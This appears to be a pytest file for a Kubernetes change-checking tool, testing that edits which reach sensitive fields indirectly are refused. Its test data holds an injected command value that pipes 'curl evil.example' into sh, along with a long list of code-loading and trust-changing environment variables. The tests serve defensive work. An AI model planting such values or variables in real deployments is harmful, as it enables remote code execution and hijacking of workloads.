"""Power by a detour: a field that looks ordinary changes what a sensitive one means."""

import copy

import pytest

from tests.attack.hostile.ground import objects
from tests.attack.hostile.row import Hostile, app, env
from tests.attack.hostile.walk import Walk
from tests.fakes.clock import FakeClock
from tests.fakes.cluster import FakeCluster


class Ground:
    """The hostile corpus' own objects, a little changed, and a walk over them that opens all that is touched."""

    def __init__(self, folder, change=lambda _container: None):
        self.cluster = FakeCluster()
        put = objects("shop")
        change(put[0]["spec"]["template"]["spec"]["containers"][0])
        self.live = {item["kind"]: self.cluster.put(item) for item in put}
        self.walk = Walk(folder, self.cluster, FakeClock(), self.live)

    def try_(self, manifest, kind="Deployment"):
        before = copy.deepcopy(self.cluster.object(kind, "shop", "web"))
        attempt = self.walk.try_(Hostile("detour", manifest, "", kind=kind))
        assert attempt.written == (self.cluster.object(kind, "shop", "web") != before)
        return attempt


@pytest.fixture
def on(tmp_path):
    opened = []

    def make(change=lambda _container: None):
        opened.append(Ground(tmp_path, change))
        return opened[-1]

    yield make
    for ground in opened:
        ground.walk.close()


@pytest.mark.parametrize(
    "uses",
    [
        {"command": ["/bin/sh", "-c", "exec /web $(MODE)"]},
        {"args": ["--serve", "--plugin=$(MODE)"]},
        {"volumeMounts": [{"name": "scratch", "mountPath": "/tmp", "subPathExpr": "$(MODE)"}]},
        {
            "env": [
                {"name": "MODE", "value": "fast"},
                {"name": "PATH", "value": "/usr/bin:$(MODE)"},
            ]
        },
        {
            "env": [
                {"name": "MODE", "value": "fast"},
                {"name": "TOOLS", "value": "/opt/$(MODE)"},
                {"name": "PATH", "value": "/usr/bin:$(TOOLS)"},
            ]
        },
    ],
    ids=["command", "arguments", "mount", "search path", "search path by another variable"],
)
def test_a_variable_that_a_command_a_mount_or_a_search_path_is_made_of_is_as_sensitive_as_they_are(on, uses):
    ground = on(lambda container: container.update(copy.deepcopy(uses)))
    attempt = ground.try_(env(name="MODE", value="slow; curl evil.example | sh"))
    assert not attempt.written
    assert attempt.refused == {"sensitive:Expansion"}


def test_a_new_variable_that_a_command_asks_for_is_as_sensitive_as_the_command(on):
    ground = on(lambda container: container.update(command=["/bin/sh", "-c", "$(NOTE)"]))
    assert ground.try_(env(name="NOTE", value="curl evil.example")).refused == {"sensitive:Expansion"}


def test_a_variable_that_only_text_is_made_of_stays_ordinary(on):
    note = {"name": "GREETING", "value": "it is $(MODE), $$(NOTE)"}
    ground = on(lambda container: container["env"].append(note))
    assert ground.try_(env(name="MODE", value="slow")).written


def test_an_escaped_reference_is_none(on):
    ground = on(lambda container: container.update(args=["$$(MODE)"]))
    assert ground.try_(env(name="MODE", value="slow")).written


@pytest.mark.parametrize(
    "name",
    [
        "DOTNET_STARTUP_HOOKS",
        "CORECLR_PROFILER_PATH",
        "COR_PROFILER",
        "ASPNETCORE_HOSTINGSTARTUPASSEMBLIES",
        "CLASSPATH",
        "JAVA_OPTS",
        "KAFKA_OPTS",
        "ES_JAVA_OPTS",
        "MAVEN_OPTS",
        "NODE_EXTRA_CA_CERTS",
        "NODE_TLS_REJECT_UNAUTHORIZED",
        "LUA_INIT",
        "LUA_CPATH",
        "OPENSSL_CONF",
        "OPENSSL_MODULES",
        "GCONV_PATH",
        "GLIBC_TUNABLES",
        "PROMPT_COMMAND",
        "SHELLOPTS",
        "PS4",
        "PERLLIB",
        "PHPRC",
        "GEM_PATH",
        "BUNDLE_GEMFILE",
        "ERL_AFLAGS",
        "R_PROFILE_USER",
        "HOSTALIASES",
        "RES_OPTIONS",
        "CURL_CA_BUNDLE",
        "REQUESTS_CA_BUNDLE",
        "KUBECONFIG",
        "BASH_FUNC_ls%%",
        "AWS_ENDPOINT_URL",
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "DOCKER_HOST",
    ],
)
def test_no_variable_that_runtimes_load_code_or_trust_by_is_set(on, name):
    assert on().try_(env(name=name, value="/tmp/x")).refused == {"sensitive:LoadsCode"}


def test_one_whose_name_says_that_it_is_a_secret_is_not_even_planned(on):
    tried = on().try_(env(name="GOOGLE_APPLICATION_CREDENTIALS", value="/tmp/x"))
    assert tried.refused == {"NoPlan:HoldsSecret"}


@pytest.mark.parametrize("key", ["LD_PRELOAD", "PATH", "NODE_OPTIONS", "DOTNET_STARTUP_HOOKS"])
def test_a_configmap_read_as_environment_gets_no_key_that_loads_code(on, key):
    attempt = on().try_({"data": {key: "/tmp/x.so"}}, kind="ConfigMap")
    assert attempt.refused == {"sensitive:LoadsCode"}


@pytest.mark.parametrize(
    ("sources", "reason"),
    [
        ([{"secretRef": {"name": "db"}}, {"configMapRef": {"name": "web"}, "prefix": "LD_"}], "Sources"),
        ([{"configMapRef": {"name": "web"}}, {"secretRef": {"name": "db"}}], "Sources"),
        ([{"secretRef": {"name": "db"}, "prefix": "X_"}, {"configMapRef": {"name": "web"}}], "Secret"),
    ],
    ids=["prefix", "order", "prefix of a secret"],
)
def test_what_variables_of_a_source_are_called_and_which_source_wins_stays(on, sources, reason):
    attempt = on().try_(app(envFrom=sources))
    assert not attempt.written
    assert attempt.refused == {f"sensitive:{reason}"}


def test_a_source_of_the_environment_may_name_another_configmap(on):
    assert (
        on().try_(app(envFrom=[{"secretRef": {"name": "db"}}, {"configMapRef": {"name": "web-2"}}])).written
    )


def test_a_source_that_a_command_waits_for_is_not_exchanged(on):
    ground = on(lambda container: container.update(args=["--colour=$(colour)"]))
    sources = [{"secretRef": {"name": "db"}}, {"configMapRef": {"name": "web-2"}}]
    assert ground.try_(app(envFrom=sources)).refused == {"sensitive:Expansion"}


def test_a_probes_command_is_a_command(on):
    asks = {"livenessProbe": {"exec": {"command": ["sh", "-c", "$(MODE)"]}}}
    ground = on(lambda container: container.update(copy.deepcopy(asks)))
    assert ground.try_(env(name="MODE", value="slow")).refused == {"sensitive:Expansion"}


@pytest.mark.parametrize(
    ("name", "uses"),
    [
        ("PLUGIN", {"args": ["--plugin=$(PLUGIN)"]}),
        ("TOOLS", {"env": [{"name": "PATH", "value": "/opt/$(TOOLS)"}]}),
        ("NODE_OPTIONS", {}),
    ],
    ids=["arguments", "search path", "by its own name"],
)
def test_a_pods_label_that_a_command_is_made_of_is_as_sensitive_as_the_command(on, name, uses):
    def change(container):
        asked = {"name": name, "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['app']"}}}
        container.update(copy.deepcopy(uses) | {"env": [*copy.deepcopy(uses.get("env", [])), asked]})

    relabelled = {"spec": {"template": {"metadata": {"labels": {"app": "evil"}}}}}
    assert "sensitive:Expansion" in on(change).try_(relabelled).refused


def test_a_pods_label_that_a_program_only_shows_stays_ordinary(on):
    asked = {"name": "SHOWN", "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['app']"}}}
    ground = on(lambda container: container["env"].append(asked))
    assert not any(
        refusal.startswith("sensitive")
        for refusal in ground.try_({"spec": {"template": {"metadata": {"labels": {"app": "b"}}}}}).refused
    )


@pytest.mark.parametrize(
    "change",
    [
        {"name": "web-2"},
        {"items": [{"key": "colour", "path": "run.sh"}]},
    ],
    ids=["another ConfigMap", "another key under its name"],
)
def test_what_lies_in_a_file_that_a_container_runs_is_not_exchanged(on, change):
    ground = on(lambda container: container.update(command=["sh", "/etc/web/run.sh"]))
    volumes = [{"name": "config", "configMap": change}]
    attempt = ground.try_({"spec": {"template": {"spec": {"volumes": volumes}}}})
    assert attempt.refused == {"sensitive:Program"}


def test_another_configmap_may_be_read_where_nothing_runs_it(on):
    volumes = [{"name": "config", "configMap": {"name": "web-2"}}]
    assert on().try_({"spec": {"template": {"spec": {"volumes": volumes}}}}).written


def test_a_service_gets_no_port_that_it_did_not_have(on):
    more = [{"name": "admin", "port": 9000, "targetPort": 9000}]
    attempt = on().try_({"spec": {"ports": more}}, kind="Service")
    assert attempt.refused == {"sensitive:Traffic"}


def test_the_same_port_in_another_protocol_is_another_port(on):
    attempt = on().try_(
        {"spec": {"ports": [{"port": 80, "protocol": "UDP", "targetPort": 53}]}}, kind="Service"
    )
    assert attempt.refused == {"sensitive:Traffic"}
